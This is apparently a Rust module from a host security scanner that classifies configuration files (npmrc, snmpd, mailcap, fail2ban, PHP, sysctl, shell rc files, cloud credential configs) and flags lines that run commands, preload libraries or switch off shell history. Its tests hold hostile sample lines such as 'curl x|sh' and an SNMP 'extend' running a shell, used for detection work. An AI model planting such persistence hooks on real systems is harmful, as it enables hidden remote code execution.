//! Which files have settings that run something, and where in a line it stands.

use bstr::ByteSlice;

use super::super::super::Severity;
use super::super::super::commands;
use super::super::super::facts::base;
use super::super::common::{has_part, is_below, is_home};
use super::super::python_or_node_hook::VARIABLES;
use super::{Does, doors};

/// How a file names what it runs.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(super) enum Form {
    /// Variables of logins.
    Environment,
    /// Settings of PHP.
    Php,
    /// Settings of nginx.
    Nginx,
    /// Settings of the server of SSH.
    Ssh,
    /// Hosts that need no password.
    Hosts,
    /// Services of inetd.
    Inetd,
    /// Settings of package managers.
    Packages,
    /// Settings of the kernel.
    Sysctl,
    /// Formats that the kernel gives to programs.
    Binfmt,
    /// A command behind a word: `extend NAME COMMAND`, `credential_process = COMMAND`.
    Keys(&'static [&'static str]),
    /// Commands anywhere in a line.
    Lines,
    /// Commands in files of a project: people write such lines themselves.
    Project,
    /// Files that all shells read.
    Shell,
}

/// The form of a file by its path.
pub(super) fn of(path: &[u8]) -> Option<Form> {
    let name = base(path);
    let is_person = is_home(path) || path.contains_str("/.config/");
    let below = |folders: &[&str]| is_below(path, folders);
    let form = match name {
        b"environment" if path == b"/etc/environment" || path.ends_with(b"/.ssh/environment") => Form::Environment,
        b"pam_env.conf" | b".pam_environment" => Form::Environment,
        b"hosts.equiv" | b".rhosts" | b".shosts" | b"shosts.equiv" => Form::Hosts,
        b"inetd.conf" => Form::Inetd,
        b".npmrc" | b"npmrc" | b"pip.conf" | b".gemrc" | b".yarnrc" | b".condarc" | b"sources.list" => Form::Packages,
        b"sysctl.conf" => Form::Sysctl,
        b"rsyslog.conf" => Form::Keys(&["^", "program(", "binary=", "shell-execute("]),
        b"snmpd.conf" => Form::Keys(&["extend ", "exec ", "pass ", "pass_persist ", "sh "]),
        b"mailcap" | b".mailcap" => Form::Keys(&[";"]),
        b"hosts.allow" | b"hosts.deny" => Form::Keys(&["spawn", "twist"]),
        b"config" | b"credentials" if has_part(path, &[".aws"]) => Form::Keys(&["credential_process"]),
        b"config" if has_part(path, &[".kube"]) => Form::Keys(&["command:"]),
        b"config.json" if has_part(path, &[".docker"]) => Form::Keys(&["credsStore", "credHelpers"]),
        b"postgresql.conf" | b"postgresql.auto.conf" => Form::Keys(POSTGRES),
        b"screenrc" | b".screenrc" | b".lesskey" | b".irbrc" | b".pryrc" | b".Rprofile" | b"Rprofile.site"
        | b"gdbinit" | b".lldbinit" | b".sqliterc" | b".inputrc" | b".pythonrc" | b".pythonrc.py" | b".emacs"
        | b".vimrc" | b".gvimrc" | b".nanorc" | b".wgetrc" | b".curlrc" | b".xinitrc" | b".xprofile"
        | b".xsessionrc" | b"xinitrc" | b".Xclients" => Form::Lines,
        b".envrc" => Form::Project,
        b"tasks.json" if has_part(path, &[".vscode"]) => Form::Project,
        b"package.json" if !has_part(path, &["node_modules", "nodejs"]) => Form::Project,
        b"bash.bashrc" | b"bashrc" | b"profile" | b"zshrc" | b"zshenv" if below(&["/etc/"]) => Form::Shell,
        b".bashrc" | b".profile" | b".bash_profile" | b".zshrc" | b".zshenv" if is_home(path) => Form::Shell,
        _ if below(&["/etc/profile.d/"]) => Form::Shell,
        _ if below(&["/etc/php", "/usr/local/etc/php"]) => Form::Php,
        _ if below(&["/etc/nginx/", "/usr/local/nginx/conf/"]) => Form::Nginx,
        _ if path == b"/etc/ssh/sshd_config" || below(&["/etc/ssh/sshd_config.d/"]) => Form::Ssh,
        _ if below(&["/etc/apt/sources.list.d/", "/etc/yum.repos.d/"]) => Form::Packages,
        _ if below(&["/etc/sysctl.d/", "/usr/lib/sysctl.d/", "/run/sysctl.d/", "/usr/local/lib/sysctl.d/"]) => {
            Form::Sysctl
        }
        _ if below(&["/etc/binfmt.d/", "/usr/lib/binfmt.d/", "/run/binfmt.d/"]) => Form::Binfmt,
        _ if below(&["/etc/rsyslog.d/"]) => Form::Keys(&["^", "program(", "binary=", "shell-execute("]),
        _ if below(&["/etc/snmp/"]) => Form::Keys(&["extend ", "exec ", "pass ", "pass_persist ", "sh "]),
        _ if below(&["/etc/fail2ban/"]) => Form::Keys(&["action"]),
        _ if below(&["/etc/audit/plugins.d/", "/etc/audisp/plugins.d/"]) => Form::Keys(&["path"]),
        _ if below(&["/etc/postgresql/"]) => Form::Keys(POSTGRES),
        _ if below(&["/etc/tmpfiles.d/", "/usr/lib/tmpfiles.d/", "/etc/needrestart/", "/etc/gdb/", "/etc/R/"]) => {
            Form::Lines
        }
        _ if is_person && is_plugin(path) => Form::Lines,
        _ => return None,
    };
    Some(form)
}

const POSTGRES: &[&str] = &[
    "archive_command",
    "restore_command",
    "recovery_end_command",
    "archive_cleanup_command",
    "ssl_passphrase_command",
];

/// Scripts that editors and consoles of people run as they start.
fn is_plugin(path: &[u8]) -> bool {
    const PLACES: [&str; 10] = [
        "/.vim/plugin/",
        "/.vim/autoload/",
        "/.vim/after/",
        "/.vim/ftplugin/",
        "/nvim/init.",
        "/nvim/plugin/",
        "/.emacs.d/init.el",
        "/.ipython/profile_default/",
        "/.jupyter/",
        "/.config/systemd/user/",
    ];
    PLACES.iter().any(|place| path.contains_str(place))
}

impl Form {
    /// The most that a finding of this form is.
    pub(super) fn most(self, severity: Severity) -> Severity {
        if self == Form::Project { severity.min(Severity::Medium) } else { severity }
    }

    /// What a line does.
    pub(super) fn does(self, text: &[u8]) -> Option<Does<'_>> {
        let line = commands::code(text);
        if line.is_empty() || line.starts_with(b";") || line.starts_with(b"//") {
            return None;
        }
        match self {
            Form::Environment => variable(line),
            Form::Php => php(line),
            Form::Nginx => doors::nginx(line),
            Form::Ssh => doors::ssh(line),
            Form::Hosts => doors::hosts(line),
            Form::Inetd => doors::inetd(line),
            Form::Packages => npm(line).or_else(|| doors::packages(line)),
            Form::Sysctl => sysctl(line),
            Form::Binfmt => {
                let mut fields = line.split_str(line.get(..1)?).skip(6);
                fields.next().filter(|path| path.starts_with(b"/")).map(Does::Runs)
            }
            Form::Keys(keys) => behind(line, keys),
            Form::Lines | Form::Project => Some(Does::Runs(line)),
            Form::Shell => super::super::history_tampered::switches_off(line)
                .then_some(Does::Opens(Severity::Medium, "has shells keep no history")),
        }
    }
}

/// What stands behind a word, without a mark between.
fn behind<'l>(line: &'l [u8], keys: &[&str]) -> Option<Does<'l>> {
    let (at, key) = keys.iter().filter_map(|key| Some((line.find(key)?, key))).min_by_key(|(at, _)| *at)?;
    let rest = line.get(at.saturating_add(key.len())..)?;
    // A helper for credentials is a name, and no path.
    if key.starts_with("cred") && *key != "credential_process" {
        let is_path =
            rest.split_str(",").next().is_some_and(|value| value.contains_str("/") && value.contains_str(".."));
        return is_path
            .then_some(Does::Opens(Severity::High, "names a program by a path where only names are allowed"));
    }
    Some(Does::Runs(rest.trim_with(|c| c.is_whitespace() || "=:\"',({".contains(c))))
}

/// A variable that has a library, a script or a directory of modules loaded.
fn variable(line: &[u8]) -> Option<Does<'_>> {
    /// Besides those of interpreters.
    const NAMES: [&str; 6] = ["LD_PRELOAD", "LD_AUDIT", "LD_LIBRARY_PATH", "BASH_ENV", "PROMPT_COMMAND", "LESSOPEN"];
    const ALLOCATORS: [&str; 4] = ["libjemalloc", "libtcmalloc", "libmimalloc", "libeatmydata"];
    let line = line.strip_prefix(b"export ").unwrap_or(line);
    let end = line.find_byteset(b"= \t")?;
    let (name, value) = line.split_at_checked(end)?;
    if !NAMES.iter().chain(&VARIABLES).any(|known| known.as_bytes() == name) {
        return None;
    }
    if name == b"PROMPT_COMMAND" {
        return Some(Does::Runs(value.trim_with(|c| c == '=' || c == '"' || c == '\'')));
    }
    // `NAME DEFAULT=value` of PAM; `--require=/x`, `-javaagent:/x`.
    let words = value.split(|byte| b"= \t\"':".contains(byte));
    let path = words.into_iter().find(|word| word.starts_with(b"/"))?;
    let is_loader = matches!(name, b"LD_PRELOAD" | b"LD_AUDIT");
    if is_loader && !ALLOCATORS.iter().any(|known| base(path).starts_with(known.as_bytes())) {
        return Some(Does::Opens(Severity::High, "has a library loaded into every program of a login"));
    }
    Some(Does::Loads(path))
}

fn php(line: &[u8]) -> Option<Does<'_>> {
    let line = line.get(..line.find_byte(b';').unwrap_or(line.len()))?;
    let (key, value) = line.split_once_str("=")?;
    let key = key.trim_ascii();
    // `php_admin_value[NAME]` of a pool.
    let key = key.find_byte(b'[').and_then(|at| key.get(at.saturating_add(1)..)?.strip_suffix(b"]")).unwrap_or(key);
    let value = value.trim_with(|c| c.is_whitespace() || c == '"' || c == '\'');
    let is_prepended = matches!(key, b"auto_prepend_file" | b"auto_append_file" | b"opcache.preload");
    let is_module = matches!(key, b"extension" | b"zend_extension");
    if !(is_prepended || is_module) || value.is_empty() || value == b"none" {
        return None;
    }
    if is_prepended
        && [&b"php://"[..], b"data:", b"http://", b"https://"].iter().any(|scheme| value.starts_with(scheme))
    {
        return Some(Does::Opens(Severity::High, "has PHP run what is no file before each page"));
    }
    Some(Does::Loads(value))
}

fn npm(line: &[u8]) -> Option<Does<'_>> {
    const KEYS: [&str; 5] = ["script-shell", "git", "shell", "editor", "node-options"];
    let (key, value) = line.split_once_str("=")?;
    let is_one = KEYS.iter().any(|known| known.as_bytes() == key.trim_ascii());
    is_one.then(|| Does::Runs(value.trim_with(|c| c.is_whitespace() || c == '"')))
}

fn sysctl(line: &[u8]) -> Option<Does<'_>> {
    const HANDLERS: [&str; 5] = ["systemd-coredump", "apport", "abrt-hook-ccpp", "drkonqi", "core-dump-handler"];
    let (key, value) = line.split_once_str("=")?;
    let key = key.trim_ascii().replace("/", ".");
    let value = value.trim_ascii();
    match key.as_slice() {
        b"kernel.core_pattern" => {
            let command = value.strip_prefix(b"|")?;
            let program = base(command.fields().next()?);
            let is_known = HANDLERS.iter().any(|known| program.starts_with(known.as_bytes()));
            (!is_known).then_some(Does::Opens(Severity::High, "has the kernel of the host run a program at each crash"))
        }
        b"kernel.modprobe" | b"kernel.hotplug" | b"kernel.poweroff_cmd" => {
            let is_usual = value.is_empty() || is_below(value, &["/sbin/", "/usr/sbin/", "/bin/", "/usr/bin/"]);
            (!is_usual).then_some(Does::Opens(Severity::High, "has the kernel of the host run a program"))
        }
        _ => None,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn does<'l>(path: &str, line: &'l str) -> Option<Does<'l>> {
        of(path.as_bytes()).unwrap_or_else(|| panic!("{path}")).does(line.as_bytes())
    }

    #[test]
    fn settings_name_what_they_run() {
        for (path, line, command) in [
            ("/root/.npmrc", "script-shell=/usr/share/x/update", "/usr/share/x/update"),
            ("/etc/snmp/snmpd.conf", "extend x /bin/sh -c \"id\"", "x /bin/sh -c \"id"),
            ("/etc/rsyslog.d/9.conf", ":msg, contains, \"x\" ^/usr/share/x", "/usr/share/x"),
            ("/etc/mailcap", "text/plain; curl x|sh", "curl x|sh"),
            ("/etc/fail2ban/action.d/x.conf", "actionban = curl x|sh", "ban = curl x|sh"),
            ("/root/.aws/config", "credential_process = /opt/x", "/opt/x"),
            ("/root/.kube/config", "    command: /opt/x", "/opt/x"),
            ("/etc/binfmt.d/x.conf", ":x:M::\\x7fELF::/usr/share/x/update:OC", "/usr/share/x/update"),
            ("/etc/audit/plugins.d/x.conf", "path = /opt/x", "/opt/x"),
            ("/root/.vim/plugin/x.vim", "silent !curl x|sh", "silent !curl x|sh"),
        ] {
            assert_eq!(does(path, line), Some(Does::Runs(command.as_bytes())), "{path}");
        }
        for (path, line, loaded) in [
            ("/etc/php/8.4/fpm/conf.d/9.ini", "auto_prepend_file=/var/lib/php/s", "/var/lib/php/s"),
            ("/etc/php/8.4/fpm/pool.d/w.conf", "php_admin_value[auto_prepend_file] = /a", "/a"),
            ("/etc/php/8.4/fpm/conf.d/9.ini", "extension=json_core.so", "json_core.so"),
            ("/etc/environment", "NODE_OPTIONS=--require=/usr/lib/node/hook.js", "/usr/lib/node/hook.js"),
        ] {
            assert_eq!(does(path, line), Some(Does::Loads(loaded.as_bytes())), "{path}");
        }
        for (path, line) in [
            ("/etc/security/pam_env.conf", "LD_PRELOAD DEFAULT=/usr/lib/a.so"),
            ("/root/.ssh/environment", "LD_PRELOAD=/usr/lib/a.so"),
            ("/etc/sysctl.d/9.conf", "kernel.core_pattern=|/usr/share/x"),
            ("/root/.docker/config.json", "{\"credsStore\":\"../../usr/share/x\"}"),
            ("/etc/bash.bashrc", "set +o history"),
        ] {
            assert!(matches!(does(path, line), Some(Does::Opens(..))), "{path} {line}");
        }
    }

    #[test]
    fn ordinary_settings_do_nothing() {
        for (path, line) in [
            ("/etc/environment", "PATH=/usr/bin:/bin"),
            ("/etc/environment", "# LD_PRELOAD=/a.so"),
            ("/etc/environment", "LD_PRELOAD=/usr/lib/libjemalloc.so.2x"),
            ("/etc/php/8.4/fpm/conf.d/9.ini", "auto_prepend_file="),
            ("/etc/php/8.4/fpm/conf.d/9.ini", "; extension=x"),
            ("/etc/php/8.4/fpm/conf.d/9.ini", "memory_limit=1G"),
            ("/etc/sysctl.d/9.conf", "kernel.core_pattern=|/usr/lib/systemd/systemd-coredump %P"),
            ("/etc/sysctl.d/9.conf", "net.ipv4.ip_forward=1"),
            ("/root/.docker/config.json", "{\"credsStore\":\"desktop\"}"),
            ("/root/.npmrc", "registry=https://registry.npmjs.org/"),
            ("/etc/bash.bashrc", "HISTSIZE=1000"),
        ] {
            let found = does(path, line);
            assert!(
                found.is_none() || path.ends_with("environment") && matches!(found, Some(Does::Loads(_))),
                "{path} {line}: {found:?}"
            );
        }
        assert_eq!(of(b"/srv/app/node_modules/a/package.json"), None);
        assert_eq!(of(b"/srv/config"), None);
    }
}
